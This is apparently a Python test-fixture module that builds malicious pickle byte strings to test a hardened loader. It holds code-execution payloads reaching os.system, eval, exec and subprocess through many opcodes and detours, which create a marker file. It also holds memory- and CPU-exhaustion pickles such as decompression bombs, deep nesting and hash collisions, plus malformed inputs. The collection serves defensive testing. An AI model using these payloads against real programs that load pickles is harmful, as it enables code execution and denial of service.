"""Pickles that run code in the program that loads them, by every opcode and detour; and pickles that grow without bound.

Each of `EXECUTING` makes the file `executed` in the current folder when Python's own `pickle.load` reads it.
"""

import bz2
import pickle
import struct
import zlib
from collections.abc import Sequence

import numpy as np

_COMMAND = "touch executed"
_PYTHON = "open('executed', 'w').close()"
# Registered by the tests as the short name of os.system.
EXTENSION_CODE = 0xC8


class Calls:
    """An object whose pickle is a call."""

    def __init__(self, function, *arguments) -> None:
        self._call = (function, arguments)

    def __reduce__(self):
        return self._call


def _global(name: str) -> bytes:
    module, _, attribute = name.rpartition(".")
    return f"c{module}\n{attribute}\n".encode()


def _text(text: str) -> bytes:
    raw = text.encode()
    return b"X" + struct.pack("<I", len(raw)) + raw


def _short(text: str) -> bytes:
    return b"\x8c" + bytes([len(text)]) + text.encode()


def _call(name: str, *arguments: str) -> bytes:
    return _global(name) + b"(" + b"".join(map(_text, arguments)) + b"tR"


_SYSTEM = _global("os.system")
_EVIL = _call("os.system", _COMMAND)
_MAPPED = _global("builtins.map") + b"(" + _SYSTEM + b"(l" + _text(_COMMAND) + b"at"
EXECUTING = {
    "REDUCE": _EVIL + b".",
    "REDUCE without an end": _EVIL,
    "REDUCE before a fault": _EVIL + b"\xff",
    "INST": b"(S'" + _COMMAND.encode() + b"'\nios\nsystem\n.",
    "OBJ": b"(" + _SYSTEM + _text(_COMMAND) + b"o.",
    "NEWOBJ": b"\x80\x02" + _global("builtins.tuple") + b"(" + _MAPPED + b"\x81t\x81.",
    "NEWOBJ_EX": b"\x80\x04" + _global("builtins.tuple") + b"(" + _MAPPED + b"}\x92t}\x92.",
    "STACK_GLOBAL": b"\x80\x04" + _short("os") + _short("system") + b"\x93" + _short(_COMMAND) + b"\x85R.",
    "STACK_GLOBAL with a dotted name": b"\x80\x04"
    + _short("shutil")
    + _short("os.system")
    + b"\x93"
    + _short(_COMMAND)
    + b"\x85R.",
    "EXT1": b"\x80\x02\x82" + bytes([EXTENSION_CODE]) + _text(_COMMAND) + b"\x85R.",
    "EXT2": b"\x80\x02\x83" + struct.pack("<H", EXTENSION_CODE) + _text(_COMMAND) + b"\x85R.",
    "EXT4": b"\x80\x02\x84" + struct.pack("<I", EXTENSION_CODE) + _text(_COMMAND) + b"\x85R.",
    "BUILD with a planted __setstate__": _global("collections.OrderedDict")
    + b")R}("
    + _text("__setstate__")
    + _SYSTEM
    + b"ub"
    + _text(_COMMAND)
    + b"b.",
    "memo": _SYSTEM + b"p7\n0" + b"g7\n(" + _text(_COMMAND) + b"tR.",
    "MEMOIZE": b"\x80\x04" + _short("os") + _short("system") + b"\x93\x940h\x00" + _short(_COMMAND) + b"\x85R.",
    "inside a frame": b"\x80\x04\x95" + struct.pack("<Q", len(_EVIL) + 1) + _EVIL + b".",
    "after a good entry": b"\x80\x02}(" + _text("train/a.png") + _text("apple") + _text("x") + _EVIL + b"u.",
    "as a key": b"\x80\x02}" + _EVIL + _text("apple") + b"s.",
    "deep in containers": b"\x80\x02}" + _text("a") + b"]](" + _EVIL + b"taas.",
    "in a set": b"\x80\x04\x8f(" + _EVIL + b"\x90.",
    "in an object array": pickle.dumps({"a": np.array([Calls(exec, _PYTHON)], dtype=object)}, 2),
    "in an object array, protocol 5": pickle.dumps(np.array([Calls(exec, _PYTHON)], dtype=object), 5),
    "as an array's state": _call("numpy.core.multiarray._reconstruct").replace(b"(tR", b"")
    + _global("numpy.ndarray")
    + b"(K\x00tU\x01b\x87R"
    + _EVIL
    + b"b.",
    "eval": _call("builtins.eval", f"__import__('os').system({_COMMAND!r})") + b".",
    "exec": _call("builtins.exec", _PYTHON) + b".",
    "Python 2's name of eval": _call("__builtin__.eval", f"__import__('os').system({_COMMAND!r})") + b".",
    "posix": _call("posix.system", _COMMAND) + b".",
    "popen": _call("os.popen", _COMMAND) + _global("builtins.list") + b"(" + _call("os.popen", _COMMAND) + b"tR.",
    "subprocess": _call("subprocess.getoutput", _COMMAND) + b".",
    "open": _call("builtins.open", "executed", "w") + b".",
    "getattr":
    _global("builtins.getattr") + b"(" + _call("builtins.__import__", "os") + _text("system") + b"tR(" + _text(_COMMAND) + b"tR.",
    "partial": _global("functools.partial") + b"(" + _SYSTEM + _text(_COMMAND) + b"tR)R.",
    "methodcaller": _call("operator.methodcaller", "system", _COMMAND) + b"(" + _call("importlib.import_module", "os") + b"tR.",
    "timeit": _call("timeit.timeit", "pass", _PYTHON) + b".",
    "profiler": _call("cProfile.run", _PYTHON) + b".",
    "a second pickle inside": _global("pickle.loads") + b"(C" + bytes([len(_EVIL) + 1]) + _EVIL + b".tR.",
    "numpy's runstring": _global("numpy.testing.runstring") + b"(" + _text(_PYTHON) + b"}tR.",
    "copyreg": _global("copyreg.__newobj__") + b"(" + _global("builtins.tuple") + _MAPPED + b"\x81tR.",
}  # fmt: skip


def _nested(depth: int) -> bytes:
    return b"]" * depth + b"a" * (depth - 1)


def _doubled(times: int) -> bytes:
    """A list of 2 ** times elements in a few bytes: each list holds the one before it twice."""
    return b"]" + b"".join(b"q%c0](h%ch%ce" % (n, n, n) for n in range(times))


def _tuple_in_itself(times: int, made: bytes) -> bytes:
    """A tuple that holds the one before it twice (`made`: \x86 around two of them), so that it hashes 2 ** times tuples."""
    return b"\x80\x02)" + b"q\x000h\x00h\x00\x86" * times + made


def _colliding(count: int) -> bytes:
    """Integers whose hash is 0, whatever the size of the table: multiples of 2**61 - 1."""
    wide = [(2**61 - 1) * 2**64 * (one + 1) for one in range(count)]
    return b"".join(b"\x8a\x12" + number.to_bytes(18, "little") for number in wide)


def _encode(content: bytes, codec: str) -> bytes:
    return _global("_codecs.encode") + b"(" + b"C" + bytes([len(content)]) + content + _text(codec) + b"tR."


def _array(dtype: str, shape: Sequence[int], content: bytes) -> bytes:
    """An array as protocol 2 writes it, with whatever state."""
    dims = b"(" + b"".join(b"\x8a\x09" + struct.pack("<q", size) + b"\0" for size in shape) + b"t"
    head = _global("numpy.core.multiarray._reconstruct") + _global("numpy.ndarray") + b"K\x00\x85C\x01b\x87R"
    made = _global("numpy.dtype") + _text(dtype) + b"K\x00K\x01\x87R"
    return head + b"(K\x01" + dims + made + b"\x89C" + bytes([len(content)]) + content + b"tb"


GROWING = {
    "bzip2 codec": _encode(bz2.compress(bytes(10**7)), "bz2"),
    "zlib codec": _encode(zlib.compress(bytes(10**5)), "zlib"),
    "uuencode codec": _encode(b"x", "uu"),
    "bytes of any length": _global("builtins.bytes") + b"(J\xff\xff\xff\x7ftR.",
    "bytearray of any length": _global("builtins.bytearray") + b"(J\xff\xff\xff\x7ftR.",
    "range": _global("builtins.range") + b"(J\xff\xff\xff\x7ftR.",
    "announced string": b"\x80\x04\x8d" + struct.pack("<Q", 2**60) + b"x.",
    "announced bytes": b"\x80\x04\x8e" + struct.pack("<Q", 2**62) + b"x.",
    "announced frame": b"\x80\x04\x95" + struct.pack("<Q", 2**60) + b"x.",
    "announced number": b"\x80\x02\x8b\xff\xff\xff\x7fx.",
    "negative length": b"\x80\x02X\xff\xff\xff\xff.",
    "sparse memo that fits into 12 GiB": b"\x80\x02K\x01r" + struct.pack("<I", 2**29 + 2**28) + b".",
    "sparse memo": b"\x80\x02K\x01r\xff\xff\xff\x7f.",
    "array of nothing, endless": b"\x80\x03}" + _text("train/a.png") + _array("S0", [2**40], b"") + b"s.",
    "array larger than its bytes": b"\x80\x03" + _array("f8", [2**40], b"12345678") + b".",
    "array with a negative side": b"\x80\x03" + _array("f8", [-1], b"12345678") + b".",
    "array whose size overflows": b"\x80\x03" + _array("f8", [2**32, 2**32], b"") + b".",
    "array of objects out of bytes": b"\x80\x03" + _array("O", [1], b"ABCDEFGH") + b".",
    "array of wide strings": b"\x80\x03" + _array("U500000000", [4], b"") + b".",
    "array of records": pickle.dumps(np.zeros(1, dtype=[("a", "O")]), 2),
    "raw memory as an array": b"\x80\x02cnumpy\nndarray\nK\x01\x85U\x01OU\x08AAAAAAAA\x87R.",
    "lists a hundred thousand deep": _nested(100_000) + b".",
    "deep list for a class": b"}" + _text("train/a.png") + _nested(100_000) + b"s.",
    "deep list for a key": b"}" + _nested(100_000) + _text("apple") + b"s.",
    "list that holds itself": b"}" + _text("train/a.png") + b"]q\x00h\x00as.",
    "list of 2**60": b"}" + _text("train/a.png") + _doubled(60) + b"s.",
    "ordered dict of 2**60": b"}" + _text("train/a.png") + b"ccollections\nOrderedDict\n)R" + _text("x") + _doubled(60) + b"ss.",
    "key that holds itself 2**60 times": _tuple_in_itself(60, b"}" + b"h\x00" + _text("apple") + b"s."),
    "key in a dict of marked items": _tuple_in_itself(60, b"(h\x00" + _text("apple") + b"d."),
    "keys of many items": _tuple_in_itself(60, b"}(h\x00" + _text("apple") + b"u."),
    "member that holds itself 2**60 times": _tuple_in_itself(60, b"\x8f(h\x00\x90."),
    "member of a frozen set that holds itself 2**60 times": _tuple_in_itself(60, b"(h\x00\x91."),
    "member of a set made of a list, 2**60 times": _tuple_in_itself(60, _global("builtins.set") + b"]h\x00a\x85R."),
    "key of an ordered dict made of pairs, 2**60 times":
    _tuple_in_itself(60, _global("collections.OrderedDict") + b"]h\x00" + _text("apple") + b"\x86a\x85R."),
    "key a million tuples deep": b"\x80\x02})" + b"\x85" * 10**6 + _text("apple") + b"s.",
    "value a million tuples deep": b"\x80\x02}" + _text("train/a.png") + b")" + b"\x85" * 10**6 + b"s.",
    "member a million tuples deep": b"\x80\x04\x8f()" + b"\x85" * 10**6 + b"\x90.",
    "integers that collide as members": b"\x80\x04\x8f(" + _colliding(40_000) + b"\x90.",
    "integers that collide as keys":
    b"\x80\x02}(" + _colliding(40_000).replace(b"\x8a\x12", b"N\x8a\x12").replace(b"N", b"", 1) + b"Nu.",
    "integers that collide in a list made a set": b"\x80\x02" + _global("builtins.set") + b"](" + _colliding(40_000) + b"e\x85R.",
    "numbers of two parts that could collide":
    b"\x80\x02}" + _global("builtins.complex") + b"K\x01K\x02\x86R" + _text("apple") + b"s.",
    "number of five thousand digits": pickle.dumps({"train/a.png": 10**5000}, 2),
    "key of five thousand digits": pickle.dumps({10**5000: "apple"}, 2),
}  # fmt: skip

REFUSED = {
    "persistent id": b"Pos.system\n.",
    "persistent id from the stack": b"\x80\x02X\x01\x00\x00\x00xQ.",
    "extension code of nobody": b"\x80\x02\x82\x77.",
    "function for data": _SYSTEM + b".",
    "class for data": _global("builtins.type") + b".",
    "attributes for the reader's own classes":
    _global("numpy.ndarray") + b"N}" + _text("__new__") + _global("numpy.dtype") + b"s\x86b.",
    "attributes for the reader's own functions":
    _global("_codecs.encode") + b"N}" + _text("__defaults__") + b"(" + _text("bz2") + b"ts\x86b.",
    "ordered dict with planted items":
    b"\x80\x02" + _global("collections.OrderedDict") + b")R" + _text("train/a.png") + _text("apple") + b"s}" + _text("items")
    + _text("planted") + b"sb.",
    "buffer outside the file": b"\x80\x05\x97.",
    "object of torch": pickle.dumps({"train/a.png": Calls(np.dtype, "f4")}, 2).replace(b"numpy", b"torch"),
    "stack that is empty": b"(((R.",
    "mark that is missing": b"t.",
    "memo that is empty": b"h\x05.",
    "protocol of the future": b"\x80\x63}.",
}  # fmt: skip
